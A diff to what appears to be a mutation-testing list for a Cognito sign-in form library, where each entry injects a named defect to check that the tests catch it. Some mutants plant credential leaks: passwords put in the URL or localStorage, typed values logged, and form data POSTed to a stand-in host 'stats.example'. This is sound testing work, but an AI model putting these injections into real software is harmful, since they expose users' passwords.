@@ -6,187 +6,186 @@
  */
 
 const machine = 'packages/machine/src'
+const forms = `${machine}/forms`
 const react = 'examples/react/src'
 const vue = 'examples/vue/src'
-const shared = 'examples/shared'
 
 /** @type {readonly Mutant[]} */
 export const mutants = [
-  // The screens.
+  // The screens of the apps.
   {
-    name: 'the submit button stays enabled while a request is in flight',
-    file: `${react}/form/auth-form.tsx`,
-    find: '          disabled={isPending}\n',
-    replace: '',
+    name: 'React: the submit button stays enabled while a request is in flight',
+    file: `${react}/auth-form.tsx`,
+    find: '<button {...form.submitProps}>',
+    replace: '<button {...form.submitProps} disabled={false}>',
   },
   {
     name: 'Vue: the submit button stays enabled while a request is in flight',
-    file: `${vue}/form/auth-form.vue`,
-    find: '        :disabled="view.isPending"\n',
-    replace: '',
-  },
-  {
-    name: 'failures are not shown',
-    file: `${react}/form/auth-form.tsx`,
-    find: '(problem ?? toFormError(failure))',
-    replace: 'problem',
+    file: `${vue}/auth-form.vue`,
+    find: 'v-bind="form.submitProps"',
+    replace: 'v-bind="{ ...form.submitProps, disabled: false }"',
   },
   {
     name: 'failures are shown, but not announced',
-    file: `${react}/form/auth-form.tsx`,
-    find: '<p className="alert" role="alert" id={alertId}>',
-    replace: '<p className="alert" id={alertId}>',
+    file: `${react}/auth-form.tsx`,
+    find: '<p className="alert" role="alert">',
+    replace: '<p className="alert">',
   },
   {
     name: 'Vue: failures are shown, but not announced',
-    file: `${vue}/form/auth-form.vue`,
-    find: 'class="alert" role="alert">',
-    replace: 'class="alert">',
-  },
-  {
-    name: 'the last error stays while the next attempt is in flight',
-    file: `${react}/form/auth-form.tsx`,
-    find: 'const error = isPending ? undefined : (problem ?? toFormError(failure))',
-    replace:
-      'const last = useRef(failure)\n  if (failure) last.current = failure\n  const error = problem ?? toFormError(last.current)',
+    file: `${vue}/auth-form.vue`,
+    find: '<p class="alert" role="alert">',
+    replace: '<p class="alert">',
   },
   {
     name: 'Vue: the last error stays on the screen for good',
-    file: `${vue}/form/auth-form.vue`,
-    find: 'const error = computed(() =>\n  view.isPending ? undefined : (problem.value ?? toFormError(view.failure)),\n)',
-    replace:
-      'let last: FormError | undefined\nconst error = computed(() => {\n  last = toFormError(view.failure) ?? last\n  return problem.value ?? last\n})',
-  },
-  {
-    name: 'the focus is left behind when the screen changes',
-    file: `${shared}/forms/focus.ts`,
-    find: "main.querySelector('h1')?.focus()",
-    replace: 'document.title = titles[route]',
-  },
-  {
-    name: 'the focus is lost with the disabled button',
-    file: `${shared}/forms/focus.ts`,
-    find: '    ;(next ?? button)?.focus()',
-    replace: '    void [next, button]',
-  },
-  {
-    name: 'the focus does not go to the rejected field',
-    file: `${shared}/forms/focus.ts`,
-    find: '    rejected.focus()',
-    replace: '    rejected.blur()',
-  },
-  {
-    name: 'a rejected code stays in its field',
-    file: `${shared}/forms/focus.ts`,
-    find: "return purpose === 'current-password' || purpose === 'one-time-code'",
-    replace: "return purpose === 'current-password'",
-  },
-  {
-    name: 'a rejected password stays in its field',
-    file: `${shared}/forms/focus.ts`,
-    find: "return purpose === 'current-password' || purpose === 'one-time-code'",
-    replace: "return purpose === 'one-time-code'",
-  },
-  {
-    name: 'the form is sent by the browser, with the password in the URL',
-    file: `${react}/form/auth-form.tsx`,
-    find: '    event.preventDefault()\n    const values',
-    replace:
-      "    event.preventDefault()\n    history.replaceState(null, '', '?' + new URLSearchParams(new FormData(event.currentTarget) as never))\n    const values",
-  },
-  {
-    name: 'the password is saved for later, in the storage',
-    file: `${react}/screens/sign-in.tsx`,
-    find: 'onSubmit={({ username, password }) => view.submit({ username, password })}',
-    replace:
-      "onSubmit={({ username, password }) => {\n          localStorage.setItem('draft', password)\n          view.submit({ username, password })\n        }}",
-  },
-  {
-    name: 'what was typed is logged',
-    file: `${shared}/forms/form.ts`,
-    find: '  const texts = new Map<string, string>()\n',
-    replace:
-      "  const texts = new Map<string, string>()\n  console.log('submit', Object.fromEntries(new FormData(form)))\n",
-  },
-  {
-    name: 'what was typed goes to an analytics host',
-    file: `${shared}/forms/form.ts`,
-    find: '  const texts = new Map<string, string>()\n',
-    replace:
-      "  const texts = new Map<string, string>()\n  void fetch('https://stats.example/collect', { method: 'POST', body: new URLSearchParams(new FormData(form) as never).toString() }).catch(() => undefined)\n",
-  },
-  {
-    name: 'a form sends twice',
-    file: `${react}/form/auth-form.tsx`,
-    find: '    if (!problem) onSubmit(values)',
-    replace:
-      "    if (problem) return\n    onSubmit(values)\n    void fetch(String((window as never as { endpoint?: string }).endpoint ?? 'https://cognito-idp.us-east-1.amazonaws.com/'), { method: 'POST', headers: { 'x-amz-target': 'AWSCognitoIdentityProviderService.InitiateAuth', 'content-type': 'application/x-amz-json-1.1' }, body: '{}' }).catch(() => undefined)",
-  },
-  {
-    name: 'a screen is missing: the question of the pool',
-    file: `${react}/app.tsx`,
-    find: '      return <CustomChallenge view={view} />',
-    replace: '      return <Restoring />',
+    file: `${vue}/auth-form.vue`,
+    find: '{{ form.error }}',
+    replace: '{{ (groups.last = form.error ?? groups.last) }}',
   },
   {
     name: 'a screen is missing: the new password',
     file: `${react}/app.tsx`,
-    find: '      return <NewPassword view={view} />',
-    replace: '      return <></>',
+    find: '<AuthForm form={form} />',
+    replace: "route !== 'newPassword' && <AuthForm form={form} />",
   },
   {
     name: 'Vue: a screen is missing: the reset of a password',
     file: `${vue}/app.vue`,
-    find: '  resetPassword: ResetPassword,',
-    replace: '  resetPassword: ForgotPassword as never,',
+    find: '<AuthForm v-else :form />',
+    replace: '<AuthForm v-else-if="form.route !== \'resetPassword\'" :form />',
   },
   {
-    name: 'an e-mail address is shown where the code did not go',
-    file: `${react}/screens/confirm-sign-up.tsx`,
-    find: '{view.destination ?? view.username}',
-    replace: '{view.username}',
+    name: 'fields of a choice are not shown',
+    file: `${react}/field.tsx`,
+    find: '{options.map(',
+    replace: '{options.slice(0, 0).map(',
+  },
+
+  // The forms.
+  {
+    name: 'failures are not shown',
+    file: `${forms}/dress/dress-form.ts`,
+    find: '!isPending ? view.failure : undefined',
+    replace: '!isPending ? undefined : undefined',
   },
   {
-    name: 'the code is said to come by e-mail, also if it comes by SMS',
-    file: `${react}/screens/confirm-sign-in.tsx`,
-    find: 'switch (mfaType) {',
-    replace: "switch ('EMAIL' as typeof mfaType) {",
+    name: 'the last error stays while the next attempt is in flight',
+    file: `${forms}/store/form-state.ts`,
+    find: 'problems: isNewScreen || isNewRequest ? undefined : problems',
+    replace: 'problems: isNewScreen && isNewRequest ? undefined : problems',
+  },
+  {
+    name: 'the focus is left behind when the screen changes',
+    file: `${forms}/store/settle-form.ts`,
+    find: '  heading.focus()\n',
+    replace: '',
+  },
+  {
+    name: 'the focus is lost with the disabled button',
+    file: `${forms}/store/settle-form.ts`,
+    find: 'if (next ?? button) (next ?? button)?.focus()\n  else focusHeading(element, form)',
+    replace: 'void [next, button, form]',
+  },
+  {
+    name: 'the focus does not go to the rejected field',
+    file: `${forms}/store/settle-form.ts`,
+    find: '  input?.focus()\n',
+    replace: '',
+  },
+  {
+    name: 'a rejected code stays in its field',
+    file: `${forms}/store/settle-form.ts`,
+    find: "(rejected.kind === 'code' || isCurrent)",
+    replace: 'isCurrent',
+  },
+  {
+    name: 'a rejected password stays in its field',
+    file: `${forms}/store/settle-form.ts`,
+    find: "(rejected.kind === 'code' || isCurrent)",
+    replace: "rejected.kind === 'code'",
+  },
+  {
+    name: 'the password is in the address',
+    file: `${forms}/store/form-store.ts`,
+    find: '      const values = readValues(element)\n      isCancelled = false\n',
+    replace:
+      "      const values = readValues(element)\n      history.replaceState(null, '', '?' + new URLSearchParams(values))\n      isCancelled = false\n",
+  },
+  {
+    name: 'the password is saved for later, in the storage',
+    file: `${forms}/store/form-store.ts`,
+    find: '      const values = readValues(element)\n      isCancelled = false\n',
+    replace:
+      "      const values = readValues(element)\n      localStorage.setItem('draft', JSON.stringify(values))\n      isCancelled = false\n",
+  },
+  {
+    name: 'what was typed is logged',
+    file: `${forms}/store/read-values.ts`,
+    find: '  return values\n',
+    replace: "  console.log('submit', values)\n  return values\n",
+  },
+  {
+    name: 'what was typed goes to an analytics host',
+    file: `${forms}/store/read-values.ts`,
+    find: '  return values\n',
+    replace:
+      "  void fetch('https://stats.example/collect', { method: 'POST', body: new URLSearchParams(values).toString() }).catch(() => undefined)\n  return values\n",
+  },
+  {
+    name: 'a form sends twice',
+    file: `${forms}/store/form-store.ts`,
+    find: '      const values = readValues(element)\n      isCancelled = false\n',
+    replace:
+      "      const values = readValues(element)\n      isCancelled = false\n      void fetch(String((window as never as { endpoint?: string }).endpoint ?? 'https://cognito-idp.us-east-1.amazonaws.com/'), { method: 'POST', headers: { 'x-amz-target': 'AWSCognitoIdentityProviderService.InitiateAuth', 'content-type': 'application/x-amz-json-1.1' }, body: '{}' }).catch(() => undefined)\n",
+  },
+  {
+    name: 'a screen is missing: the question of the pool',
+    file: `${forms}/describe/describe-form.ts`,
+    find: 'return describeCustomChallenge(view, options)',
+    replace: "return describeWaiting('restoring')",
+  },
+  {
+    name: 'the place that a code went to is not shown',
+    file: `${forms}/describe/destination.ts`,
+    find: 'if (destination === undefined) return undefined',
+    replace: 'if (destination !== typed[0]) return undefined',
   },
   {
     name: 'the username has to be typed again',
-    file: `${react}/form/username-field.tsx`,
-    find: '      defaultValue={username}\n',
-    replace: "      defaultValue={username && ''}\n",
+    file: `${forms}/bind-form.ts`,
+    find: '{ value: field.initial }',
+    replace: '{}',
   },
   {
     name: 'what cancels a request leaves the screen instead',
-    file: `${react}/form/auth-form.tsx`,
-    find: '    view.cancel()',
-    replace: '    location.hash = Math.random().toString(36)',
+    file: `${forms}/describe/actions.ts`,
+    find: '    act: view.cancel,',
+    replace: '    act: () => void (location.hash = Math.random().toString(36)),',
   },
   {
     name: 'a new code can be requested again and again',
-    file: `${react}/screens/resend-button.tsx`,
-    find: '        disabled={!canResend}\n',
+    file: `${forms}/describe/actions.ts`,
+    find: '    isDisabled: !canResend,\n',
     replace: '',
   },
   {
     name: 'skipping leads nowhere',
-    file: `${react}/screens/verify-contact.tsx`,
-    find: 'onClick={view.skip}',
-    replace: 'onClick={() => undefined}',
+    file: `${forms}/describe/contact-forms.ts`,
+    find: 'act: skip }',
+    replace: 'act: () => undefined }',
   },
   {
     name: '“remember this device” is not passed on',
-    file: `${react}/screens/confirm-sign-in.tsx`,
-    find: "rememberDevice: rememberDevice !== ''",
+    file: `${forms}/describe/challenge-forms.ts`,
+    find: "rememberDevice: textOf(values, 'rememberDevice') !== ''",
     replace: 'rememberDevice: false',
   },
   {
     name: 'notices are never shown',
-    file: `${shared}/texts/notices.ts`,
-    find: "return notice ? notices[notice] : ''",
-    replace: "return notice ? '' : ''",
+    file: `${forms}/dress/dress-form.ts`,
+    find: 'if (view.notice) return noticeText(words, view.notice)',
+    replace: "if (view.notice) return ''",
   },
 
   // The machine.
